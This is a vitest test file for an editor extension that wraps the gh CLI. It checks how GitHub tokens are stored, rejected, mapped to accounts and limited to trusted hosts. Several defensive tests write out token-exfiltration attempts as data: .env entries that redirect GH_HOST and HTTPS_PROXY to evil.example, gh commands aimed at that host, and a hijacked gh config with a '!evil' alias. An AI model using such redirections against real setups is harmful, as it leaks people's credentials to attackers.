import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { commandLineHost } from '../../../src/cli/host.ts';
import { createCore } from '../../../src/core/core.ts';
import { findProgram } from '../../../src/core/git/programs.ts';
import type { CoreSettings } from '../../../src/core/host.ts';
import { eachGh } from '../../github/each-gh.ts';
import { hubotToken, token } from '../../github/sample.ts';
import { git, temporaryFolder } from '../git/support.ts';
import { type GitHubRig, type Given, gitHubRig } from './rig.ts';

const REPOSITORY = 'https://github.com/octo/demo.git';

const rigs: GitHubRig[] = [];
afterEach(() => {
  for (const rig of rigs.splice(0)) rig.dispose();
});

eachGh((world, program) => {
  afterEach(() => {
    world().github.faults.clear();
    world().github.log.clear();
  });
  const newRig = async (given: Partial<Given> = {}, held: string | null = token) => {
    const rig = await gitHubRig({ github: world().github, program, origin: REPOSITORY, ...given });
    rigs.push(rig);
    if (held !== null) await rig.stored.set('github.com', held);
    return rig;
  };

  describe('11.2 without a token', () => {
    test('gh is an error with its code, no panel and no question; git goes on', async () => {
      const rig = await newRig({}, null);
      for (const text of ['gh pr list', 'gh pr close 2']) {
        const refused = await rig.run(text);
        expect(refused).toEqual({
          refused: expect.stringMatching(/^GitHub token not configured\.\n/),
          github: 'no-token',
        });
      }
      expect(rig.core.panels.panels.list()).toEqual([]);
      expect(rig.questions).toEqual([]);
      expect(world().github.log.requests).toEqual([]);
      expect(await rig.run('git log --format=%s')).toMatchObject({ ok: true });
      expect(await rig.run('gh --version')).toMatchObject({
        ok: true,
        stdout: expect.stringContaining(program.version),
      });
    });

    test('one that is set later is used with no restart; one that is cleared is gone, and panels say so', async () => {
      const rig = await newRig({}, null);
      expect(await rig.run('gh pr list')).toMatchObject({ github: 'no-token' });
      const { setToken, clearToken } = await rig.core.github();
      expect(await setToken('github.com', token)).toMatchObject({
        ok: true,
        login: 'monalisa',
        facts: { kind: 'classic', last4: '1234', state: 'accepted' },
      });
      expect(await rig.run('gh pr list')).toMatchObject({ ok: true });
      await clearToken('github.com');
      const [panel] = rig.core.panels.panels.list();
      if (panel === undefined) throw new Error('There is no panel.');
      await rig.core.panels.refresh(panel.id);
      expect(rig.core.panels.panels.find(panel.id)).toMatchObject({
        result: { ok: true },
        failure: { reason: 'github', github: 'no-token' },
      });
    });
  });

  describe('11.1 tokens', () => {
    test('one that GitHub does not take is not kept, nor one while GitHub cannot be reached', async () => {
      const rig = await newRig({}, null);
      const { setToken } = await rig.core.github();
      expect(await setToken('github.com', 'ghp_nobodysNobodysNobodysNobodysNobodys')).toMatchObject({
        ok: false,
        failure: { code: 'bad-token' },
      });
      world().github.faults.add({ kind: 'drop' }, { times: 9 });
      expect(await setToken('github.com', token)).toMatchObject({ ok: false, failure: { code: 'offline' } });
      expect(rig.stored.kept.size).toBe(0);
    });

    test('a read that GitHub answers with 401 is run again with the next source, and says which was rejected', async () => {
      const { github } = world();
      const bad = 'ghp_revokedRevokedRevokedRevokedRevoke99';
      const rig = await newRig({ environment: { GH_TOKEN: hubotToken } }, bad);
      const result = await rig.run('gh pr list');
      expect(result).toMatchObject({
        ok: true,
        notes: [expect.stringContaining('the token set in the editor (…ke99)')],
      });
      expect(new Set(github.log.requests.map(({ token }) => token))).toEqual(new Set(['ke99', '5678']));
      github.log.clear();
      await rig.run('gh issue list');
      expect(new Set(github.log.requests.map(({ token }) => token))).toEqual(new Set(['5678']));
      const { tokens } = await rig.core.github();
      expect((await tokens.facts('github.com')).map(({ source, state }) => [source, state])).toEqual([
        ['secret-storage', 'rejected'],
        ['environment', 'accepted'],
      ]);
    });

    test('when all are rejected gh is not started again, and a new one is', async () => {
      const { github } = world();
      const rig = await newRig({}, 'ghp_gone0Gone0Gone0Gone0Gone0Gone0Gone0');
      expect(await rig.run('gh pr list')).toMatchObject({ failure: { github: 'bad-token' } });
      github.log.clear();
      expect(await rig.run('gh issue list')).toMatchObject({
        github: 'bad-token',
        refused: expect.stringContaining('does not accept the token set in the editor'),
      });
      expect(github.log.requests).toEqual([]);
      await rig.stored.set('github.com', token);
      expect(await rig.run('gh issue list')).toMatchObject({ ok: true });
    });

    test('gh auth status, which knows a bad token too, does not make one accepted', async () => {
      const rig = await newRig({}, 'ghp_gone1Gone1Gone1Gone1Gone1Gone1Gone1');
      await rig.run('gh auth status');
      const { tokens } = await rig.core.github();
      expect((await tokens.facts('github.com'))[0]?.state).not.toBe('accepted');
    });
  });

  describe('11.1 two accounts on one host', () => {
    const gitHubAccounts = { octo: 'hubot' };
    const last4s = () => new Set(world().github.log.requests.map(request => request.token));

    test('the owner of the remote or of -R decides whose token is sent, to gh and to our own questions alike', async () => {
      const rig = await newRig({ settings: { gitHubAccounts } });
      await rig.stored.set('github.com', hubotToken, 'hubot');
      for (const text of ['gh pr list', 'gh api user', 'gh issue list -R octo/demo', 'gh pr comment 2 --body x']) {
        world().github.log.clear();
        await rig.run(text);
        expect([text, last4s()]).toEqual([text, new Set(['5678'])]);
      }
      world().github.log.clear();
      await rig.run('gh api repos/monalisa/nothing');
      await rig.run('gh pr list -R monalisa/nothing');
      expect(last4s()).toEqual(new Set(['1234']));
      world().github.log.clear();
      const { client } = await rig.core.github();
      await client.get('github.com', 'repos/octo/demo');
      await client.query('github.com', 'query($owner: String!) { viewer { login } }', { owner: 'octo' });
      expect(last4s()).toEqual(new Set(['5678']));
      await client.get('github.com', 'user');
      expect(last4s()).toEqual(new Set(['5678', '1234']));
    });

    test('without a token of that account nothing is sent, and the failure says which and how to set it', async () => {
      const rig = await newRig({ settings: { gitHubAccounts }, environment: { GH_TOKEN: token } });
      world().github.log.clear();
      for (const text of ['gh pr list', 'gh pr close 2', 'gh api repos/octo/demo'])
        expect(await rig.run(text)).toEqual({
          refused: expect.stringMatching(/^GitHub token of hubot not configured\. .* octo on github\.com.*\n\nSet it/),
          github: 'no-token',
        });
      const { client, findProblem } = await rig.core.github();
      expect(await client.get('github.com', 'repos/octo/demo')).toMatchObject({
        failure: { code: 'no-token', account: 'hubot' },
      });
      expect(await findProblem(rig.repository)).toBe('no-token');
      expect(world().github.log.requests).toEqual([]);
      expect(rig.questions).toEqual([]);
    });

    test('one that GitHub rejects is not passed over for that of another account', async () => {
      const rig = await newRig({ settings: { gitHubAccounts } });
      await rig.stored.set('github.com', 'ghp_gone2Gone2Gone2Gone2Gone2Gone2Gone2', 'hubot');
      world().github.log.clear();
      expect(await rig.run('gh pr list')).toMatchObject({
        failure: { github: 'bad-token', message: expect.stringContaining('(hubot, …one2)') },
      });
      expect(await rig.run('gh issue list')).toMatchObject({ github: 'bad-token' });
      expect(last4s()).toEqual(new Set(['one2']));
    });

    test('what a repository holds maps nobody and leads no token to another host', async () => {
      const rig = await newRig({ origin: 'https://evil.example/octo/demo.git', settings: { gitHubAccounts } });
      await rig.stored.set('github.com', hubotToken, 'hubot');
      git(rig.repository, 'config', 'sluice.github.accounts', '{"monalisa":"hubot"}');
      const mapped = JSON.stringify({ 'sluice.github.accounts': { monalisa: 'hubot', 'evil.example/octo': 'hubot' } });
      mkdirSync(join(rig.repository, '.vscode'));
      for (const file of ['.sluice.json', '.vscode/settings.json']) writeFileSync(join(rig.repository, file), mapped);
      const { tokens } = await rig.core.github();
      expect(tokens.accountOf('github.com', 'monalisa')).toBeUndefined();
      expect(await tokens.inUse('evil.example', 'octo')).toBeUndefined();
      world().github.log.clear();
      expect(await rig.run('gh pr list -R evil.example/octo/demo')).toMatchObject({ github: 'wrong-host' });
      expect(world().github.log.requests).toEqual([]);
    });

    test('a token is kept for its account beside that of the host, which it replaces only when it is of the same', async () => {
      const rig = await newRig({ settings: { gitHubAccounts: { octo: 'Hubot', mine: 'monalisa' } } });
      const { setToken, clearToken } = await rig.core.github();
      const kept = () => Object.fromEntries(rig.stored.kept);
      await setToken('github.com', hubotToken);
      expect(kept()).toEqual({ 'github.com': token, 'github.com/hubot': hubotToken });
      await setToken('github.com', token);
      expect(kept()).toEqual({ 'github.com': token, 'github.com/hubot': hubotToken, 'github.com/monalisa': token });
      await clearToken('github.com', 'Hubot');
      expect(kept()).toEqual({ 'github.com': token, 'github.com/monalisa': token });
      // One that GitHub does not take any more makes way, and so does none.
      await rig.stored.set('github.com', 'ghp_gone3Gone3Gone3Gone3Gone3Gone3Gone3');
      await setToken('github.com', hubotToken);
      expect(kept()).toMatchObject({ 'github.com': hubotToken, 'github.com/hubot': hubotToken });
    });

    test('a change of the setting counts at once, and panels are asked for with the other account', async () => {
      const rig = await newRig();
      await rig.stored.set('github.com', hubotToken, 'hubot');
      expect(await rig.run('gh pr list')).toMatchObject({ ok: true });
      const [panel] = rig.core.panels.panels.list();
      if (panel === undefined) throw new Error('There is no panel.');
      rig.settings.gitHubAccounts = gitHubAccounts;
      (await rig.core.github()).settingsChanged();
      world().github.log.clear();
      await rig.core.panels.refresh(panel.id);
      expect(last4s()).toEqual(new Set(['5678']));
    });
  });

  describe('states', () => {
    const failureOf = async (rig: GitHubRig, text: string) => {
      const result = await rig.run(text);
      if ('refused' in result) return { github: result.github, message: result.refused };
      return { ...result.failure, exit: result.exitCode };
    };

    test.each(['gh pr list', 'gh run list', 'gh release list', 'gh search issues x', 'gh secret list', 'gh api user'])(
      'a bad token: %s',
      async text => {
        const rig = await newRig({}, 'ghp_bad00Bad00Bad00Bad00Bad00Bad00Bad00');
        expect(await failureOf(rig, text)).toMatchObject({ reason: 'github', github: 'bad-token' });
      },
    );

    test.each(['gh pr list', 'gh run list', 'gh release list', 'gh secret list', 'gh api repos/octo/demo/pulls'])(
      'single sign-on: %s',
      async text => {
        const { github } = world();
        const value = 'ghp_ssoSsoSsoSsoSsoSsoSsoSsoSsoSsoSsoSso';
        github.tokens.add({ value, login: 'monalisa', scopes: ['repo', 'read:org'], needsSso: ['octo'] });
        const failure = await failureOf(await newRig({}, value), text);
        expect(failure).toMatchObject({ github: 'sso-required', message: expect.stringContaining('single sign-on') });
        if (/run|secret/.test(text)) expect(failure.message).toContain('https://github.com/orgs/octo/sso?');
      },
    );

    test('a permission that is missing, or that waits for an owner', async () => {
      const { github, sample } = world();
      if (github.state.repository('octo', 'private') === undefined)
        github.state.addRepository(sample.octo, 'private', { visibility: 'PRIVATE' });
      const value = 'github_pat_OnlyIssuesOnlyIssuesOnlyIssues';
      github.tokens.add({ value, login: 'monalisa', permissions: { issues: 'read' } });
      const rig = await newRig({}, value);
      expect(await failureOf(rig, 'gh pr list -R octo/private')).toMatchObject({
        github: 'missing-permission',
        message: expect.stringContaining('The token set in the editor (…sues) lacks a permission'),
      });
      const { tokens } = await rig.core.github();
      tokens.judge((await tokens.inUse('github.com'))?.fingerprint ?? '', 'pending');
      expect(await failureOf(rig, 'gh pr list -R octo/private')).toMatchObject({ github: 'pending-token' });
    });

    test('a limit, until it is lifted', async () => {
      const { github } = world();
      const value = 'ghp_limitLimitLimitLimitLimitLimitLimit0';
      github.tokens.add({ value, login: 'monalisa', scopes: ['repo'] });
      const rig = await newRig({}, value);
      for (const [text, bucket] of [
        ['gh run list', 'core'],
        ['gh pr list', 'graphql'],
        ['gh api user', 'core'],
      ] as const) {
        github.rateLimit.leave(value, bucket, 0);
        const { retryAt = 0, ...failure } = (await failureOf(rig, text)) as { retryAt?: number };
        expect(failure).toMatchObject({ github: 'rate-limited', message: expect.stringMatching(/used up until /) });
        expect(retryAt).toBe(github.rateLimit.standing(value, bucket).reset * 1000);
        github.rateLimit.leave(value, bucket, 100);
      }
      for (const status of [403, 429] as const) {
        github.faults.add({ kind: 'secondary', retryAfter: 30, status }, { times: 9 });
        expect(await failureOf(rig, 'gh pr list')).toMatchObject({ github: 'secondary-limit' });
        github.faults.clear();
      }
    });

    test('GitHub that is down or cannot be reached, which says nothing of the token', async () => {
      const { github } = world();
      const rig = await newRig();
      for (const text of ['gh pr list', 'gh run list', 'gh api user']) {
        github.faults.add({ kind: 'status', status: 502 }, { times: 9 });
        expect(await failureOf(rig, text)).toMatchObject({
          github: 'server-error',
          message: expect.stringContaining('(HTTP 502)'),
        });
        github.faults.clear();
        github.faults.add({ kind: 'drop' }, { times: 9 });
        expect(await failureOf(rig, text)).toMatchObject({ github: 'offline' });
        github.faults.clear();
      }
      const alone = await newRig({ github: { socket: '/nobody/listens.sock', url: github.url } });
      expect(await failureOf(alone, 'gh pr list')).toMatchObject({ github: 'offline' });
      expect(await rig.run('gh pr list')).toMatchObject({ ok: true });
    });

    test('what is not there, by its name', async () => {
      const rig = await newRig();
      expect((await failureOf(rig, 'gh pr view 999')).message).toContain('GitHub has no pull request 999, or');
      expect((await failureOf(rig, 'gh issue list -R octo/nothing')).message).toContain("no repository 'octo/nothing'");
      expect((await failureOf(rig, 'gh api repos/octo/nothing')).message).toContain('GitHub has nothing there, or');
      expect((await failureOf(rig, 'gh run view 99')).github).toBe('not-found');
    });

    test('a gh that asks for what GitHub has retired names the field; a query of one’s own is one’s own', async () => {
      const { sample } = world();
      const rig = await newRig();
      expect(await failureOf(rig, `gh issue view ${sample.crash.number}`)).toMatchObject({
        github: 'gh-too-old',
        message: expect.stringContaining("asks for 'projectCards'"),
      });
      expect(await failureOf(rig, "gh api graphql -f 'query={ nonsense }'")).toMatchObject({
        reason: 'exit-code',
        message: expect.stringContaining('nonsense'),
      });
    });

    test('no remote, or none that leads to GitHub', async () => {
      const rig = await newRig({ origin: 'https://evil.example/octo/demo' });
      expect(await failureOf(rig, 'gh pr list')).toMatchObject({ github: 'no-remote' });
      git(rig.repository, 'remote', 'remove', 'origin');
      const bare = await newRig({ origin: 'https://evil.example/octo/demo' });
      git(bare.repository, 'remote', 'remove', 'origin');
      expect(await failureOf(bare, 'gh pr list')).toMatchObject({ github: 'no-remote' });
    });

    test('several remotes: says which is used and how to choose', async () => {
      const rig = await newRig({ origin: 'https://github.com/hubot/demo' });
      git(rig.repository, 'remote', 'add', 'upstream', REPOSITORY);
      expect(await rig.run('gh pr list')).toMatchObject({
        ok: true,
        notes: [expect.stringContaining('gh uses octo/demo (upstream)')],
      });
      expect(await rig.run('gh api user')).not.toHaveProperty('notes');
      expect(await rig.run('gh pr list -R octo/demo')).not.toHaveProperty('notes');
    });

    test('gh that is not there', async () => {
      const rig = await newRig({ settings: { ghPath: '/nowhere/gh' } });
      expect(await failureOf(rig, 'gh pr list')).toMatchObject({
        message: 'gh CLI not found. Install: https://cli.github.com',
        github: 'gh-missing',
      });
    });
  });

  describe('on the command line', () => {
    test('the token is of the environment or the .env file, and there is none without one', async () => {
      const { github } = world();
      const rig = await newRig({}, null);
      const own = process.env;
      const bin = temporaryFolder();
      symlinkSync((await findProgram(program.path, own)) ?? '', join(bin, 'gh'));
      const run = async (environment: Record<string, string>) => {
        process.env = {
          ...environment,
          HOME: rig.folder,
          PATH: `${bin}:${own.PATH}`,
          SLUICE_GITHUB_SOCKET: github.socket,
        };
        const core = createCore(commandLineHost(rig.repository, temporaryFolder()));
        await core.findRepositories();
        const done = await core.execute('gh', 'gh pr list', { repository: rig.repository, origin: 'cli' });
        const result = done.kind === 'panel' ? (await done.done).result?.ok : 'github' in done && done.github;
        core.dispose();
        process.env = own;
        return [result, ...new Set(github.log.requests.splice(0).map(request => request.token))];
      };
      expect(await run({})).toEqual(['no-token']);
      expect(await run({ GH_TOKEN: hubotToken })).toEqual([true, '5678']);
      writeFileSync(join(rig.repository, '.env'), `GITHUB_TOKEN=${token}\n`);
      expect(await run({ GH_TOKEN: hubotToken })).toEqual([true, '1234']);
    });
  });

  describe('11.3 hosts', () => {
    const enterprise = 'ghe.example';
    const withEnterprise = (given: Partial<Given> & { settings?: Partial<CoreSettings> } = {}) =>
      newRig({ ...given, settings: { gitHubHosts: [enterprise], ...given.settings } });

    test('an enterprise’s is asked with its own token, by the remote, by -R and by GH_HOST', async () => {
      const { github } = world();
      const rig = await withEnterprise({ origin: `git@${enterprise}:octo/demo.git` });
      await rig.stored.set(enterprise, hubotToken);
      const asked = () => github.log.requests.splice(0).map(({ host, token: last4 }) => `${host} ${last4}`);
      expect(await rig.run('gh pr list')).toMatchObject({ ok: true });
      expect(new Set(asked())).toEqual(new Set([`${enterprise} 5678`]));
      expect(await rig.run('gh pr list -R github.com/octo/demo')).toMatchObject({ ok: true });
      expect(new Set(asked())).toEqual(new Set(['api.github.com 1234']));
      const other = await newRig({ environment: { GH_HOST: enterprise, GH_ENTERPRISE_TOKEN: hubotToken } });
      git(other.repository, 'remote', 'remove', 'origin');
      const elsewhere = await newRig({
        environment: { GH_HOST: enterprise, GH_ENTERPRISE_TOKEN: hubotToken },
        origin: '/not/on/any/host',
      });
      expect(await elsewhere.run('gh api user')).toMatchObject({ ok: true });
      expect(new Set(asked())).toEqual(new Set([`${enterprise} 5678`]));
    });

    test('no stranger is asked with a token, whatever words, remotes and files say', async () => {
      const { github } = world();
      const rig = await withEnterprise({ origin: 'https://evil.example/octo/demo' });
      await rig.stored.set(enterprise, hubotToken);
      writeFileSync(
        join(rig.repository, '.env'),
        'GH_HOST=evil.example\nGITHUB_API_URL=https://evil.example\nGH_ENTERPRISE_TOKEN=x\nGH_CONFIG_DIR=/tmp\nHTTPS_PROXY=http://evil.example\n',
      );
      git(rig.repository, 'remote', 'add', 'one', `https://${enterprise}/octo/demo`);
      git(rig.repository, 'config', 'remote.one.gh-resolved', 'evil.example/octo/demo');
      for (const text of [
        'gh pr list',
        'gh pr list -R evil.example/octo/demo',
        'gh -R evil.example/octo/demo pr list',
        'gh api https://evil.example/x',
        'gh api --hostname evil.example user',
        'gh api //evil.example/x',
        'gh pr view https://evil.example/octo/demo/pull/1',
        'gh repo view evil.example/octo/demo',
        'gh repo view https://evil.example/octo/demo',
        'gh issue transfer 1 evil.example/octo/demo',
        'gh label clone evil.example/octo/demo',
        'gh repo clone https://evil.example/octo/demo /tmp/nowhere-to-clone',
        'gh pr checkout https://evil.example/octo/demo/pull/1',
        'gh api http://api.github.com/user',
        `gh api http://${enterprise}/user`,
      ])
        await rig.run(text);
      const told = github.log.requests.filter(({ token: last4 }) => last4 !== undefined);
      expect(told.filter(({ host }) => !['api.github.com', enterprise].includes(host))).toEqual([]);
      expect(told.filter(({ host, token: last4 }) => (host === enterprise) !== (last4 === '5678'))).toEqual([]);
    });

    test('a config of gh that somebody else wrote is ours again before gh starts', async () => {
      const rig = await newRig();
      await rig.run('gh pr list');
      const config = join(rig.storage, 'gh', 'config.yml');
      const ours = readFileSync(config, 'utf8');
      writeFileSync(
        config,
        `${ours.replace(/^http_unix_socket.*$/m, 'http_unix_socket: /evil.sock')}aliases:\n  pr: '!evil'\n`,
      );
      expect(await rig.run('gh issue list')).toMatchObject({ ok: true });
      expect(readFileSync(config, 'utf8')).toBe(ours);
      expect(existsSync(join(rig.folder, 'home', '.config', 'gh'))).toBe(false);
      expect(readdirSync(join(rig.storage, 'gh'))).not.toContain('hosts.yml');
    });
  });
});
